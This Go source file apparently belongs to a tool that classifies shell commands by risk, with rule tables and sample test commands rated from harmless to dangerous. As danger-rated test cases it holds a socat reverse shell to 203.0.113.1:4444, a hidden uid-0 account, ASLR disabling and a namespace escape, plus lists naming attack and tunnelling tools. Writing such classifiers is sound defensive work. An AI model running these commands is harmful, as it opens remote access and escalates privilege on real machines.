package risk

// systemRules are the programs that tell about the machine or change it.
func systemRules() []rule {
	return []rule{
		{
			prog: "uname|uptime|lsb_release|sw_vers|id|who|w|last|lastb|free|getconf|locale|runlevel|getenforce|sestatus|" +
				"aa-status|ionice|acpi|vmstat|mpstat|iostat",
			flags: "*",
			try: []try{
				{"uname -a", Reads}, {"free -m", Reads}, {"vmstat 1 5", Reads},
			},
		},
		{prog: "lastlog|faillog", flags: "-u= -t= -b= -a", try: []try{{"lastlog -u bob", Reads}, {"lastlog -C -u bob", Unclear}}},
		{
			prog:    "hostname",
			flags:   "-f -s -i -I -d -a -A -y --fqdn --long --short --all-ip-addresses --ip-address --domain",
			unclear: "-F= --file= -b", check: setsWith("the host's name"),
			try: []try{
				{"hostname -f", Reads}, {"hostname newname", Unclear},
			},
		},
		{
			prog: "hostnamectl|timedatectl|localectl|loginctl|resolvectl|networkctl|coredumpctl|bootctl|machinectl|portablectl|" +
				"homectl",
			flags: "--no-pager -a --all -n= --lines= -p= --property= -H --human", anywhere: true, check: checkCtl,
			sub: "status|show|list-timezones|list-locales|list-keymaps|timesync-status|list-sessions|list-users|list-seats|" +
				"show-session|show-user|user-status|session-status|list|info|query|statistics|dns|domain|lldp|list-images",
			try: []try{
				{"timedatectl status", Reads}, {"loginctl list-sessions", Reads}, {"resolvectl dns", Reads},
				{"resolvectl dns eth0 1.1.1.1", Unclear}, {"resolvectl query a.example", Reads},
			},
		},
		{
			prog: "hostnamectl|timedatectl|localectl|resolvectl|networkctl", flags: "--no-pager",
			check: setsWith("the machine's settings"),
			try: []try{
				{"hostnamectl", Reads}, {"timedatectl frob 12:00", Unclear},
			},
		},
		{
			prog: "hostnamectl|timedatectl|localectl",
			sub: "set-hostname|hostname|set-time|set-timezone|set-ntp|set-local-rtc|set-locale|set-keymap|set-chassis|" +
				"set-deployment|set-location|set-icon-name|set-x11-keymap",
			level: Changes, why: "changes the machine's settings", flags: "*",
			try: []try{
				{"hostnamectl set-hostname a", Changes}, {"timedatectl set-ntp true", Changes},
			},
		},
		{
			prog: "loginctl|machinectl", sub: "enable-linger|shell|login|attach|bind|import-tar|pull-tar|pull-raw",
			level: Danger, why: "takes power or makes programs start by themselves", marks: []Reason{Privilege},
			flags: "*",
			try:   []try{{"loginctl enable-linger", Danger}},
		},
		{prog: "loginctl", sub: "terminate-session|terminate-user|kill-session|kill-user", level: Danger, why: "ends sessions", flags: "*", try: []try{{"loginctl terminate-session", Danger}}},
		{
			prog: "dmesg",
			flags: "-H -T -k -l= -f= -w -x -e -L -r -t -u -d -i --level= --facility= --human --ctime --follow --kernel " +
				"--time-format= --since= --until= --nopager -P",
			unclear: "-C --clear -c --read-clear -D -E -n=", most: -1,
			try: []try{
				{"dmesg -T --level=err,warn", Reads}, {"dmesg -C", Unclear},
			},
		},
		{
			prog: "sysctl", flags: "-a -A -n -e -N -b -r= --all --values --names --pattern=", changes: "-w --write",
			unclear: "-p --load=? --system", check: checkSysctl,
			try: []try{
				{"sysctl -a", Reads}, {"sysctl -n vm.swappiness", Reads}, {"sysctl -w vm.swappiness=10", Changes},
				{"sysctl vm.swappiness=10", Changes}, {"sysctl -w kernel.randomize_va_space=0", Danger},
			},
		},
		{prog: "getent", flags: "-s= -i", check: checkGetent, try: []try{{"getent hosts a", Reads}, {"getent shadow", Unclear}}},
		{
			prog:  "modinfo|systemd-detect-virt|systemd-cgtop|systemd-path|quota|repquota|lsirq|dmidecode",
			flags: "-a -t= -s= -q -n= -b -H -F= -k -l --no-pager -p --hardware --show -c -v",
			try: []try{
				{"dmidecode -t memory", Reads}, {"dmidecode --dump-bin x", Unclear},
			},
		},
		{
			prog: "systemd-cgls", flags: "-u= -a -l -k -M= --unit= --user-unit= --all --full --no-pager",
			try: []try{
				{"systemd-cgls -u docker.service", Reads},
			},
		},
		{
			prog: "sar|pidstat|tapestat|cifsiostat|nfsiostat|nfsstat|dstat|pcp|atop|sadf|turbostat|perf", style: ends,
			flags: "-A -b -B -d -F -H -h -I= -i= -j= -m= -n= -P= -p -q -r -R -S -s= -e= -t -u -v -W -w -y -z -f= -l -U -C= " +
				"-a -c -g -D -N -T= --human --iface= --dev= --time --cpu --mem --net --disk",
			check: checkSar,
			try: []try{
				{"sar -u 1 3", Reads}, {"sar -f /var/log/sysstat/sa12", Reads}, {"sar -o f 1", Unclear},
				{"pidstat -d 1", Reads}, {"pidstat -e rm x", Unclear}, {"perf record ls", Unclear}, {"sar 1 f", Unclear},
			},
		},
		{
			prog: "bc|fc-list|fc-match|numastat|ifstat|vnstat|ldd|" +
				"getsebool|seinfo|arch|pmap",
			flags: "-l -q -s -i -a -x -X -p -v -n -c -m -z", check: checkQuiet,
			try: []try{
				{"bc -l", Reads}, {"ldd /usr/bin/curl", Reads}, {"ldd ./x", Unclear}, {"arch", Reads}, {"arch rm x", Unclear},
				{"pmap -x 12", Reads}, {"pmap -N f", Unclear},
			},
		},
		{
			prog: "systemd-analyze", style: ends, flags: "--no-pager --user --system",
			check: firstOf("blame", "critical-chain", "time", "verify", "security", "unit-paths", "calendar", "timespan"),
			try: []try{
				{"systemd-analyze blame", Reads},
			},
		},
		{
			prog:  "nvidia-smi",
			flags: "-L -q -i= -d= -l= -s --query-gpu=? --query-compute-apps=? --format=? --list-gpus --query --id=? --display=?",
			try: []try{
				{"nvidia-smi", Reads}, {"nvidia-smi --query-gpu=name --format=csv", Reads}, {"nvidia-smi --gpu-reset", Unclear},
			},
		},
		{
			prog:  "rocm-smi|rocminfo|clinfo|vulkaninfo|glxinfo|inxi|neofetch|fastfetch|hostid|acpi_listen|ioreg|system_profiler",
			flags: "-a -b -F -x -i -l --summary --showmeminfo= --showuse --showtemp --json",
			try: []try{
				{"vulkaninfo --summary", Reads},
			},
		},
		{
			prog: "update-alternatives", flags: "--list= --display= --query= --get-selections",
			changes: "--set= --install= --auto= --config=", danger: "--remove= --remove-all=", harm: []Reason{Destroys},
			check: checkAlternatives,
			try:   []try{{"update-alternatives", Reads}},
		},
		{prog: "stty", flags: "-a -g --all --save", check: setsWith("the terminal"), try: []try{{"stty -a", Reads}}},
		{
			prog:  "nm|objdump|readelf|size|c++filt|addr2line|ldconfig",
			flags: "-a -C -D -d -h -H -l -n -p -r -s -S -t -T -u -x -W -e= -f -g -A -B -i -w -V",
			try: []try{
				{"readelf -h a", Reads}, {"ldconfig -p", Reads},
			},
			check: checkBinutils,
		},
		{
			prog:  "useradd|groupadd|adduser|addgroup|chsh|chfn|usermod|gpasswd|groupmod|chage|newusers|vigr",
			level: Changes, why: "changes accounts", flags: "*", marks: []Reason{Privilege}, check: checkAccount,
			try: []try{
				{"useradd -m bob", Changes}, {"usermod -aG docker bob", Danger}, {"adduser bob sudo", Danger},
				{"useradd -o -u 0 bob", Danger},
			},
		},
		{prog: "userdel|groupdel|deluser|delgroup", level: Danger, why: "deletes accounts", marks: []Reason{Destroys, Privilege}, flags: "*", try: []try{{"userdel", Danger}}},
		{
			prog:  "apparmor_parser|insmod|modprobe|rmmod|kexec|depmod|update-initramfs|dracut|grub-install|update-grub|grub2-mkconfig|efibootmgr",
			level: Danger, why: "changes what the kernel runs", marks: []Reason{Privilege}, flags: "*",
			try: []try{{"apparmor_parser", Danger}},
		},
		{
			prog:  "hwclock|ntpdate|chvt|setterm|loadkeys|localedef|update-ca-certificates|update-locale|dpkg-reconfigure",
			level: Unclear, why: "changes the machine's settings",
			try: []try{{"hwclock", Unclear}},
		},
	}
}

// powerRules are the programs that take or give power, or end the machine.
func powerRules() []rule {
	return []rule{
		{
			prog: "su|runuser|sudoedit|vipw|passwd|chpasswd|setcap|setenforce|chroot|nsenter|unshare|pivot_root|setpriv|capsh|" +
				"newgrp|sg|systemd-nspawn|semodule|setsebool|pam-auth-update|pwconv|ssh-copy-id|at|batch|polkit-agent-helper-1|aa-disable|" +
				"aa-complain|aa-teardown|login|dzdo|ksu|keyctl|authselect|mokutil|mshta|wscript|cscript|regsvr32|rundll32|" +
				"certutil|bitsadmin",
			level: Danger, why: "takes or gives power", marks: []Reason{Privilege}, flags: "*", inert: true,
			try: []try{
				{"su -", Danger}, {"passwd root", Danger}, {"setcap cap_setuid+ep x", Danger}, {"nsenter -t 1 -m sh", Danger},
				{"at now -f /tmp/x", Danger},
			},
		},
		{prog: "visudo", flags: "-c -f= -q -s", check: checkVisudo, try: []try{{"visudo", Danger}, {"visudo -c", Reads}}},
		{
			prog: "logrotate", flags: "-d -v --debug --verbose", unclear: "-f -m= -s= -l=", check: needs("-d", "--debug"),
			try: []try{
				{"logrotate -d /etc/logrotate.conf", Reads}, {"logrotate /x", Unclear},
			},
		},
		{
			prog: "shutdown|reboot|poweroff|halt|telinit|init", level: Danger, why: "takes the machine down",
			marks: []Reason{Destroys}, flags: "*",
			try: []try{
				{"shutdown -h now", Danger}, {"reboot", Danger},
			},
		},
		{
			prog:  "uvx|npx|bunx|pnpx|pipx|msfconsole|msfvenom|chisel|ligolo|pwncat|rlogin|rsh|nix-shell|sshuttle",
			level: Danger, why: "runs or lets in foreign code", marks: []Reason{RemoteCode, Network}, flags: "*",
			inert: true,
			try: []try{
				{"uvx evil-tool", Danger}, {"npx x", Danger},
			},
		},
		{
			prog: "ngrok|cloudflared|bore|localtunnel|lt|socat|frpc|tailscale", level: Danger,
			why: "opens a way in or out", marks: []Reason{RemoteCode, Exfiltrates, Network}, flags: "*", inert: true,
			try: []try{
				{"socat exec:'bash -li',pty tcp:203.0.113.1:4444", Danger},
			},
		},
	}
}

// serviceRules are the managers of services, jobs and logs.
func serviceRules() []rule {
	const units = "-l -a -q -r -t= -n= -o= -p= --full --all --no-pager --quiet --failed --type= --state= --lines= --output= --property= --user --system --recursive --value --plain --no-legend --reverse --show-types --legend= --no-ask-password --timestamp= --now -f --force --no-block --no-wall --runtime --wait --job-mode= --kill-who= -s= --signal= --with-dependencies"
	return []rule{
		{
			prog: "systemctl", flags: units, anywhere: true, level: Reads,
			try: []try{
				{"systemctl --failed", Reads}, {"systemctl -H evil status", Unclear}, {"systemctl frob", Unclear},
			},
		},
		{
			prog: "systemctl",
			sub: "status|show|list-units|list-unit-files|list-timers|list-sockets|list-dependencies|list-jobs|list-machines|" +
				"list-automounts|is-active|is-enabled|is-failed|is-system-running|cat|get-default|help",
			inert: true, check: checkUnitRead,
			try: []try{
				{"systemctl status nginx", Reads}, {"systemctl list-units --failed", Reads},
			},
		},
		{prog: "systemctl", sub: "show-environment", level: Unclear, why: "prints variables", marks: []Reason{Secret}, try: []try{{"systemctl show-environment", Unclear}}},
		{
			prog: "systemctl",
			sub: "start|restart|reload|try-restart|reload-or-restart|enable|reenable|unmask|daemon-reload|daemon-reexec|" +
				"reset-failed|preset|set-property|condrestart|thaw|freeze|clean|revert|add-wants",
			level: Changes, why: "changes a service", check: checkUserUnit,
			try: []try{
				{"systemctl restart nginx", Changes}, {"systemctl --user enable --now evil.service", Danger},
				{"systemctl --user restart x", Changes}, {"systemctl enable ./evil.service", Danger},
			},
		},
		{
			prog: "systemctl",
			sub: "stop|disable|mask|kill|isolate|poweroff|reboot|halt|suspend|hibernate|kexec|rescue|emergency|switch-root|" +
				"set-default|soft-reboot|exit|cancel",
			level: Danger, why: "takes a service or the machine down", marks: []Reason{Destroys}, inert: true,
			try: []try{
				{"systemctl stop sshd", Danger},
			},
		},
		{prog: "systemctl", sub: "link", level: Danger, why: "adds a unit from anywhere", marks: []Reason{Privilege}, try: []try{{"systemctl link", Danger}}},
		{
			prog: "systemctl", sub: "edit|set-environment|unset-environment|import-environment", level: Unclear,
			why: "opens an editor or changes what services get",
			try: []try{{"systemctl edit", Unclear}},
		},
		{
			prog: "journalctl",
			flags: "-u= -b=? -k -f -e -x -r -n=? -o= -p= -S= -U= -t= -q -a -g= -F= -N --unit= --user-unit= --boot=? --since= " +
				"--until= --priority= --no-pager --output= --lines=? --follow --reverse --dmesg --grep= --identifier= " +
				"--disk-usage --list-boots --user --system --utc --catalog --no-hostname --case-sensitive=? --all --quiet " +
				"--facility= -M= --header --fields --show-cursor -c= --cursor= --no-tail --no-full -l --full --pager-end -D= " +
				"--directory= --file= -m --merge -#",
			danger:  "--vacuum-size= --vacuum-time= --vacuum-files=",
			unclear: "--rotate --flush --relinquish-var --setup-keys --update-catalog --sync --cursor-file= --smart-relinquish-var",
			try: []try{
				{"journalctl -k -b -1 -p err", Reads}, {"journalctl -xeu nginx --since '1 hour ago'", Reads}, {"journalctl -u sshd -n 50 --no-pager", Reads},
				{"journalctl --vacuum-size=1M", Danger}, {"journalctl --vac=1M", Unclear},
			},
		},
		{
			prog: "service|rc-service|invoke-rc.d|initctl|sv|supervisorctl|launchctl|pm2|monit", style: plain,
			check: checkService,
			try: []try{
				{"service nginx status", Reads}, {"service --status-all", Reads}, {"service nginx restart", Changes},
				{"service nginx stop", Danger},
			},
		},
		{prog: "update-rc.d|chkconfig|rc-update", level: Changes, why: "changes what starts with the machine", flags: "*", try: []try{{"update-rc.d", Changes}}},
		{
			prog: "crontab", flags: "-l -u=", check: checkCrontab, unclear: "-e", danger: "-r",
			try: []try{
				{"crontab -l", Reads}, {"crontab -r", Danger}, {"crontab f", Danger}, {"crontab -u bob -l", Reads},
			},
		},
		{prog: "atq|systemd-escape|ausearch|aureport", flags: "-k= -m= -ts= -te= -i -l -a -u -f -r", try: []try{{"atq", Reads}}},
		{prog: "atrm", level: Danger, why: "deletes jobs", flags: "*", try: []try{{"atrm", Danger}}},
		{
			prog: "nginx", flags: "-t -v -V -q -T", unclear: "-g= -c= -p=", changes: "-s=",
			check: needs("-t", "-T", "-v", "-V", "-s"),
			try: []try{
				{"nginx -t", Reads}, {"nginx -T", Reads}, {"nginx -s reload", Changes}, {"nginx", Unclear},
			},
		},
		{
			prog: "apachectl|apache2ctl|httpd|apache2", flags: "-t -S -v -V -M -l", check: checkApache,
			try: []try{
				{"apachectl configtest", Reads}, {"apachectl -S", Reads}, {"apachectl graceful", Changes},
			},
		},
		{
			prog: "haproxy", flags: "-c -f= -V -q -v -vv", check: checkHaproxy,
			try: []try{
				{"haproxy -c -f /etc/haproxy/haproxy.cfg", Reads}, {"haproxy -f x", Unclear}, {"haproxy -c -f x.cfg", Unclear},
			},
		},
		{prog: "rc-status", flags: "-a -l -s -u -m -f= -r --all --list --servicelist --crashed", try: []try{{"rc-status -a", Reads}}},
		{
			prog: "postfix|postconf|mailq|postqueue|exim|doveconf|dovecot", flags: "-n -p -d -bp -j", style: single,
			check: checkMailTools,
			try: []try{
				{"postqueue -p", Reads}, {"mailq", Reads}, {"postconf -n", Reads}, {"postconf a=b", Unclear},
				{"postfix stop", Danger}, {"postfix check", Unclear},
			},
		},
		{prog: "ufw", sub: "status|version|show", flags: "", style: gnu, try: []try{{"ufw status verbose", Reads}}},
		{
			prog: "ufw", sub: "allow|deny|limit|reject|enable|reload|route|insert|logging|default|app", level: Changes,
			why: "changes the firewall", flags: "*", marks: []Reason{Privilege},
			try: []try{{"ufw allow", Changes}},
		},
		{prog: "ufw", sub: "disable|reset|delete", level: Danger, why: "takes the firewall away", flags: "*", marks: []Reason{Privilege, Destroys}, try: []try{{"ufw disable", Danger}}},
		{
			prog: "firewall-cmd",
			flags: "--state --list-all --list-ports --list-services --get-zones --get-active-zones --get-default-zone --zone= " +
				"--list-all-zones --permanent --get-services",
			changes: "--add-port= --add-service= --reload --add-rich-rule= --add-source= --set-default-zone=",
			danger:  "--remove-port= --remove-service= --panic-on --complete-reload --panic-off",
			harm:    []Reason{Destroys, Privilege},
			try:     []try{{"firewall-cmd", Reads}},
		},
		{
			prog:   "iptables|ip6tables|iptables-legacy|iptables-nft|ebtables|arptables",
			flags:  "-L=? -S=? -n -v -t= -x --line-numbers --list=? --list-rules=? --numeric --verbose --table=",
			danger: "-F -X -P= -D= -Z --flush --delete= --policy= --delete-chain",
			changes: "-A= -I= -N= -R= -p= -s= -d= -j= -m= -i= -o= --dport= --sport= --append= --insert= --state= --ctstate= " +
				"--to-destination= --to-source= --comment= -C=",
			harm:  []Reason{Destroys, Privilege},
			check: needs("-L", "-S", "--list", "--list-rules", "-A", "-I", "-N", "-R", "-D", "-F", "-X", "-P", "-Z", "-C"),
			try: []try{
				{"iptables -L -n -v", Reads}, {"iptables -nvL INPUT", Reads}, {"iptables -F", Danger},
				{"iptables -A INPUT -p tcp --dport 22 -j ACCEPT", Changes},
			},
		},
		{prog: "iptables-save", flags: "-t= -c", changes: "-f=", try: []try{{"iptables-save", Reads}}},
		{prog: "iptables-restore", level: Danger, why: "replaces the firewall", flags: "*", marks: []Reason{Destroys, Privilege}, try: []try{{"iptables-restore", Danger}}},
		{
			prog: "nft", style: gnu, flags: "-a -n -nn -j -s", check: checkNft,
			try: []try{
				{"nft list ruleset", Reads}, {"nft list ruleset \\; flush ruleset", Danger}, {"nft flush ruleset", Danger},
			},
		},
		{prog: "fail2ban-client", style: ends, check: firstOf("status", "ping", "version", "banned"), try: []try{{"fail2ban-client", Reads}}},
		{prog: "numactl", flags: "-H -s --hardware --show", most: -1, try: []try{{"numactl -H", Reads}, {"numactl ls", Unclear}}},
		{prog: "auditctl", flags: "-l -s", danger: "-D -e=", harm: []Reason{Privilege}, try: []try{{"auditctl", Reads}}},
		{prog: "tmux", sub: "ls|list-sessions|list-windows|list-panes", flags: "-a -t= -s", try: []try{{"tmux ls", Reads}}},
		{
			prog: "sshd", flags: "-t -T", check: needs("-t", "-T"),
			try: []try{
				{"sshd -t", Reads}, {"sshd", Unclear},
			},
		},
	}
}

// processRules are the programs that show or signal processes.
func processRules() []rule {
	return []rule{
		{prog: "ps", style: plain, inert: true, check: checkPs, try: []try{{"ps aux --sort=-%mem", Reads}, {"ps -ef", Reads}, {"ps auxe", Unclear}}},
		{prog: "pgrep|pidof|pstree|pwdx|pidwait|prtstat|lsfd|procs", flags: "*", inert: true, try: []try{{"pgrep -fa nginx", Reads}}},
		{
			prog:  "top|htop|btop|iotop|nethogs|slabtop|nload",
			flags: "-b -n= -d= -p= -u= -o= -H -c -i= -1 -a -k -P -t -q -l= -s= -C -m", most: -1,
			try: []try{
				{"top -bn1", Reads}, {"top -b -n 1 -o %MEM", Reads}, {"atop -w f", Unclear},
			},
		},
		{
			prog:    "lsof",
			flags:   "-i=? -n -P -p= -u= -c= -t -a -l -s=? -U -w -F=? -d= -R -r=? -g= -N -T=? -X +D +L1 -L",
			unclear: "-D= -k= -m= -A=",
			try: []try{
				{"lsof -i :8080", Reads}, {"lsof -nP -iTCP -sTCP:LISTEN", Reads},
			},
		},
		{prog: "killall5", level: Danger, why: "signals all processes", flags: "*", try: []try{{"killall5", Danger}}},
		{prog: "gcore|gcore-1|memdump", level: Unclear, why: "writes the memory of a process out", marks: []Reason{Secret}, flags: "*", try: []try{{"gcore", Unclear}}},
		{
			prog: "fuser", flags: "-v -m -u -a -n= -4 -6", danger: "-k --kill", harm: []Reason{Destroys},
			try: []try{
				{"fuser -v 80/tcp", Reads}, {"fuser -k 80/tcp", Danger},
			},
		},
		{
			prog: "kill|pkill|killall|renice|skill|snice|xkill|tskill", style: plain, inert: true, check: checkKill,
			try: []try{
				{"kill -l", Reads}, {"kill 12", Changes}, {"kill -9 12", Changes}, {"pkill -f gunicorn", Changes},
			},
		},
	}
}
